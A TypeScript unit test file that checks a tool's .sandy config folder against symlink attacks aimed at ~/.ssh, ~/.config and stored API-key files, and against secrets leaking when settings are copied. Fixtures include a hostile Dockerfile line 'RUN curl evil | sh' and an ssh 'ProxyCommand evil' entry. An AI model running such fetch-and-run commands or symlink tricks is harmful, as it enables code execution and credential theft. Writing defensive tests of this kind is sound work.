import { expect } from 'chai';
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { planCopy, starterConfigText } from '../../common/config/starter-config';
import { SandyError } from '../../common/sandy/errors';
import { BUNDLED_FALLBACK_SCHEMA } from '../../common/sandy/schema-cache';
import { CONFIG_FILE_MAX_BYTES } from './config-io';
import { createSandyFolder, readSandyFolder, SandyFolderOptions } from './sandy-folder-creator';

/**
 * Written as the attack: a real scratch HOME holding what an attacker wants (`~/.ssh/id_rsa`,
 * `~/.sandy/.secrets`), and repositories that ship a `.sandy` symlink into it, or are themselves
 * reached through one. Nothing may be written (or read) through any of them.
 */
describe('sandy-folder-creator (unit)', () => {
    let root: string;
    let home: string;
    let ws: string;
    let umask: number;
    let options: SandyFolderOptions;

    const mode = (p: string) => fs.statSync(p).mode & 0o7777;
    /** Every path under `dir`, with its content for files: what an attack could have changed. */
    const snapshot = (dir: string): Record<string, string> => {
        const out: Record<string, string> = {};
        const walk = (d: string) => {
            for (const name of fs.readdirSync(d)) {
                const p = path.join(d, name);
                const st = fs.lstatSync(p);
                if (st.isDirectory()) {
                    out[path.relative(dir, p) + '/'] = (st.mode & 0o7777).toString(8);
                    walk(p);
                } else {
                    out[path.relative(dir, p)] = st.isSymbolicLink() ? `-> ${fs.readlinkSync(p)}` : fs.readFileSync(p, 'utf8');
                }
            }
        };
        walk(dir);
        return out;
    };
    const refusal = async (run: () => Promise<unknown>): Promise<SandyError> => {
        try {
            await run();
        } catch (e) {
            expect(e).to.be.instanceOf(SandyError);
            return e as SandyError;
        }
        throw new Error('expected a refusal');
    };

    beforeEach(() => {
        umask = process.umask();
        root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sandy-folder-')));
        home = path.join(root, 'home', 'u');
        fs.mkdirSync(path.join(home, '.ssh'), { recursive: true, mode: 0o700 });
        fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY\n', { mode: 0o600 });
        fs.writeFileSync(path.join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA me\n');
        fs.mkdirSync(path.join(home, '.sandy'), { recursive: true });
        fs.writeFileSync(path.join(home, '.sandy', '.secrets'), 'ANTHROPIC_API_KEY=sk-ant-HOME\n');
        fs.mkdirSync(path.join(home, '.config'), { recursive: true });
        ws = path.join(home, 'code', 'proj');
        fs.mkdirSync(ws, { recursive: true });
        options = { home, env: {} };
    });

    afterEach(() => {
        process.umask(umask);
        fs.rmSync(root, { recursive: true, force: true });
    });

    describe('createSandyFolder', () => {
        it('creates .sandy 0700 with config (umask applied) and .secrets 0600, and returns the canonical paths', async () => {
            process.umask(0o022);
            const { created } = await createSandyFolder(ws, { config: 'SANDY_AGENT=claude\n', secrets: 'ANTHROPIC_API_KEY=sk-x\n' }, options);
            const dir = path.join(ws, '.sandy');
            expect(created).to.deep.equal([dir, path.join(dir, 'config'), path.join(dir, '.secrets')]);
            expect(mode(dir)).to.equal(0o700);
            expect(mode(path.join(dir, 'config'))).to.equal(0o644);
            expect(mode(path.join(dir, '.secrets'))).to.equal(0o600);
            expect(fs.readFileSync(path.join(dir, 'config'), 'utf8')).to.equal('SANDY_AGENT=claude\n');
            expect(fs.readFileSync(path.join(dir, '.secrets'), 'utf8')).to.equal('ANTHROPIC_API_KEY=sk-x\n');
            // No temp folder of the atomic write is left behind.
            expect(fs.readdirSync(dir).sort()).to.deep.equal(['.secrets', 'config']);
        });

        it('keeps .sandy 0700 and .secrets 0600 even under a permissive umask; no .secrets unless given', async () => {
            process.umask(0o000);
            await createSandyFolder(ws, { config: '' }, options);
            expect(mode(path.join(ws, '.sandy'))).to.equal(0o700);
            expect(fs.readdirSync(path.join(ws, '.sandy'))).to.deep.equal(['config']);
            const other = path.join(home, 'code', 'other');
            fs.mkdirSync(other);
            await createSandyFolder(other, { config: '', secrets: 'OPENAI_API_KEY=sk-o\n' }, options);
            expect(mode(path.join(other, '.sandy'))).to.equal(0o700);
            expect(mode(path.join(other, '.sandy', '.secrets'))).to.equal(0o600);
        });

        it('writes the starter, and sandy\'s own loader (bash + grep) reads nothing from it', async function () {
            await createSandyFolder(ws, { config: starterConfigText(BUNDLED_FALLBACK_SCHEMA) }, options);
            const file = path.join(ws, '.sandy', 'config');
            expect(fs.readFileSync(file, 'utf8')).to.equal(starterConfigText(BUNDLED_FALLBACK_SCHEMA));
            const grep = spawnSync('bash', ['-c', 'grep --version'], { encoding: 'utf8' });
            if (grep.status !== 0 || !/GNU grep/.test(grep.stdout)) {
                this.skip();
            }
            // sandy:5892-5927: the lines its loader would act on.
            const r = spawnSync('bash', ['-c', 'while IFS="=" read -r key value; do printf "%s\\n" "$key"; done < <(grep -E \'^[A-Z_]+=.+\' "$1")', 'loader', file],
                { encoding: 'utf8', env: { PATH: process.env.PATH, LC_ALL: 'C.UTF-8' } });
            expect(r.status).to.equal(0);
            expect(r.stdout).to.equal('');
        });

        it('works through a workspace path that is a link to an ordinary project, writing in the real folder', async () => {
            const link = path.join(root, 'proj-link');
            fs.symlinkSync(ws, link);
            const { created } = await createSandyFolder(link, { config: 'SANDY_MEM=8g\n' }, options);
            expect(created[0]).to.equal(path.join(ws, '.sandy'));
            expect(fs.lstatSync(path.join(ws, '.sandy')).isDirectory()).to.equal(true);
        });

        it('refuses a project that already has a .sandy folder, and changes nothing in it', async () => {
            fs.mkdirSync(path.join(ws, '.sandy'));
            fs.writeFileSync(path.join(ws, '.sandy', 'config'), 'SANDY_AGENT=codex\n');
            const before = snapshot(ws);
            const e = await refusal(() => createSandyFolder(ws, { config: 'SANDY_AGENT=claude\n', secrets: 'A=1\n' }, options));
            expect(e.code).to.equal('usage');
            expect(e.message).to.equal(`${ws} already has a .sandy folder; Sandy creates .sandy only where there is none. Nothing was changed.`);
            expect(e.hint).to.contain('Open Settings');
            expect(snapshot(ws)).to.deep.equal(before);
        });

        it('refuses a .sandy that is a file', async () => {
            fs.writeFileSync(path.join(ws, '.sandy'), 'not a folder');
            const e = await refusal(() => createSandyFolder(ws, { config: '' }, options));
            expect(e.message).to.contain('already has something named .sandy that is not a folder');
            expect(fs.readFileSync(path.join(ws, '.sandy'), 'utf8')).to.equal('not a folder');
        });

        it('ATTACK: a repository ships `.sandy -> ~/.ssh`: refused, nothing is written into ~/.ssh', async () => {
            fs.symlinkSync(path.join(home, '.ssh'), path.join(ws, '.sandy'));
            const ssh = snapshot(path.join(home, '.ssh'));
            const e = await refusal(() => createSandyFolder(ws, { config: 'SANDY_AGENT=claude\n', secrets: 'ANTHROPIC_API_KEY=sk-x\n' }, options));
            expect(e.code).to.equal('usage');
            expect(e.message).to.equal(`${path.join(ws, '.sandy')} is a symbolic link to ${path.join(home, '.ssh')}; Sandy does not write anything through it, `
                + 'because a project\'s .sandy must be a real folder inside the project. Nothing was changed.');
            expect(e.hint).to.contain('remove the link');
            expect(snapshot(path.join(home, '.ssh'))).to.deep.equal(ssh);
            expect(fs.readlinkSync(path.join(ws, '.sandy'))).to.equal(path.join(home, '.ssh'));
        });

        it('ATTACK: `.sandy` links to a missing ~/.ssh/new, or relatively to ~/.sandy (`../../.sandy`): refused, nothing is created or written there', async () => {
            fs.symlinkSync(path.join(home, '.ssh', 'new'), path.join(ws, '.sandy'));
            const e = await refusal(() => createSandyFolder(ws, { config: 'X=1\n' }, options));
            expect(e.message).to.contain('is a symbolic link to');
            expect(fs.existsSync(path.join(home, '.ssh', 'new'))).to.equal(false);

            const other = path.join(home, 'code', 'other');
            fs.mkdirSync(other);
            fs.symlinkSync('../../.sandy', path.join(other, '.sandy'));
            const before = snapshot(path.join(home, '.sandy'));
            await refusal(() => createSandyFolder(other, { config: 'X=1\n', secrets: 'ANTHROPIC_API_KEY=sk-attacker\n' }, options));
            expect(snapshot(path.join(home, '.sandy'))).to.deep.equal(before);
        });

        it('ATTACK: the workspace itself is a link into ~/.ssh, or lies in a folder that links into ~/.config: refused by the workspace guard', async () => {
            const sshLink = path.join(root, 'innocent');
            fs.symlinkSync(path.join(home, '.ssh'), sshLink);
            const ssh = snapshot(path.join(home, '.ssh'));
            const e = await refusal(() => createSandyFolder(sshLink, { config: 'X=1\n' }, options));
            expect(e.code).to.equal('usage');
            expect(e.message).to.contain('it is ~/.ssh');
            expect(snapshot(path.join(home, '.ssh'))).to.deep.equal(ssh);

            fs.mkdirSync(path.join(home, '.config', 'autostart'));
            fs.symlinkSync(path.join(home, '.config'), path.join(root, 'projects'));
            const e2 = await refusal(() => createSandyFolder(path.join(root, 'projects', 'autostart'), { config: 'X=1\n' }, options));
            expect(e2.message).to.contain('it is inside ~/.config');
            expect(fs.readdirSync(path.join(home, '.config', 'autostart'))).to.deep.equal([]);
        });

        it('refuses content over 1 MiB before creating anything', async () => {
            const e = await refusal(() => createSandyFolder(ws, { config: 'x'.repeat(CONFIG_FILE_MAX_BYTES + 1) }, options));
            expect(e.message).to.contain('larger than 1 MiB');
            expect(fs.existsSync(path.join(ws, '.sandy'))).to.equal(false);
        });
    });

    describe('readSandyFolder', () => {
        const sandy = () => path.join(ws, '.sandy');

        it('reads config, says whether .secrets and a Dockerfile exist without reading .secrets, and lists the rest', async () => {
            fs.mkdirSync(sandy());
            fs.writeFileSync(path.join(sandy(), 'config'), 'SANDY_AGENT=claude\r\n');
            fs.writeFileSync(path.join(sandy(), '.secrets'), 'ANTHROPIC_API_KEY=sk-ant-SOURCE\n');
            fs.writeFileSync(path.join(sandy(), 'Dockerfile'), 'FROM sandy-base\nRUN curl evil | sh\n');
            fs.writeFileSync(path.join(sandy(), 'setup.sh'), 'echo\n');
            const read = await readSandyFolder(ws, options);
            expect(read).to.deep.equal({
                workspace: ws, exists: true, config: 'SANDY_AGENT=claude\r\n', secretsExists: true, dockerfile: true, otherFiles: ['setup.sh'], unreadable: []
            });
            expect(JSON.stringify(read)).to.not.contain('sk-ant-SOURCE');
            const withSecrets = await readSandyFolder(ws, { ...options, readSecrets: true });
            expect(withSecrets.secrets).to.equal('ANTHROPIC_API_KEY=sk-ant-SOURCE\n');
        });

        it('a project without .sandy has nothing to copy', async () => {
            expect(await readSandyFolder(ws, options)).to.deep.equal({
                workspace: ws, exists: false, secretsExists: false, dockerfile: false, otherFiles: [], unreadable: []
            });
        });

        it('ATTACK: a source project ships `.sandy -> ~/.ssh`: refused, nothing of ~/.ssh is read', async () => {
            fs.symlinkSync(path.join(home, '.ssh'), sandy());
            fs.writeFileSync(path.join(home, '.ssh', 'config'), 'Host *\n  ProxyCommand evil\n');
            const e = await refusal(() => readSandyFolder(ws, { ...options, readSecrets: true }));
            expect(e.code).to.equal('usage');
            expect(e.message).to.contain('Sandy does not read anything through it');
            expect(JSON.stringify(e)).to.not.contain('ProxyCommand');
        });

        it('ATTACK: `.sandy/config -> ~/.ssh/id_rsa` and `.sandy/.secrets -> ~/.sandy/.secrets` are not read, only reported', async () => {
            fs.mkdirSync(sandy());
            fs.symlinkSync(path.join(home, '.ssh', 'id_rsa'), path.join(sandy(), 'config'));
            fs.symlinkSync(path.join(home, '.sandy', '.secrets'), path.join(sandy(), '.secrets'));
            const read = await readSandyFolder(ws, { ...options, readSecrets: true });
            expect(read.config).to.equal(undefined);
            expect(read.secrets).to.equal(undefined);
            expect(read.secretsExists).to.equal(true);
            expect(read.unreadable.map(u => u.name)).to.deep.equal(['config', '.secrets']);
            expect(read.unreadable[0].why).to.contain(`is a symbolic link to ${path.join(home, '.ssh', 'id_rsa')}`);
            expect(JSON.stringify(read)).to.not.match(/PRIVATE KEY|sk-ant-HOME/);
            const plan = planCopy(read, BUNDLED_FALLBACK_SCHEMA, { includeSecrets: true });
            expect(plan.files).to.deep.equal([{ name: 'config', text: '', keys: [] }]);
        });

        it('lists at most 200 entries of a crowded .sandy', async () => {
            fs.mkdirSync(sandy());
            for (let i = 0; i < 300; i++) {
                fs.writeFileSync(path.join(sandy(), `f${i}`), '');
            }
            const read = await readSandyFolder(ws, options);
            expect(read.otherFiles.length).to.be.at.most(200);
            expect(read.otherFiles.length).to.be.at.least(190);
        });

        it('a FIFO for config is refused without blocking', async function () {
            fs.mkdirSync(sandy());
            const r = spawnSync('mkfifo', [path.join(sandy(), 'config')]);
            if (r.status !== 0) {
                this.skip();
            }
            const read = await readSandyFolder(ws, options);
            expect(read.config).to.equal(undefined);
            expect(read.unreadable[0].why).to.contain('named pipe');
        });
    });

    it('copies another project end to end: settings yes, secrets, privileged keys and the Dockerfile no', async () => {
        const source = path.join(home, 'code', 'source');
        fs.mkdirSync(path.join(source, '.sandy'), { recursive: true });
        fs.writeFileSync(path.join(source, '.sandy', 'config'), 'SANDY_AGENT=claude\nSANDY_ALLOW_HOSTS=evil.example\nSANDY_MEM=8g\n');
        fs.writeFileSync(path.join(source, '.sandy', '.secrets'), 'ANTHROPIC_API_KEY=sk-ant-SOURCE\n');
        fs.writeFileSync(path.join(source, '.sandy', 'Dockerfile'), 'FROM x\n');
        const plan = planCopy(await readSandyFolder(source, options), BUNDLED_FALLBACK_SCHEMA);
        const config = plan.files.find(f => f.name === 'config')!.text;
        await createSandyFolder(ws, { config }, options);
        expect(snapshot(path.join(ws, '.sandy'))).to.deep.equal({ config: 'SANDY_AGENT=claude\nSANDY_MEM=8g\n' });
        expect(plan.heldBack.map(h => h.key)).to.deep.equal(['SANDY_ALLOW_HOSTS']);
        expect(plan.notCopied.map(n => n.name)).to.deep.equal(['.secrets', 'Dockerfile']);
    });
});
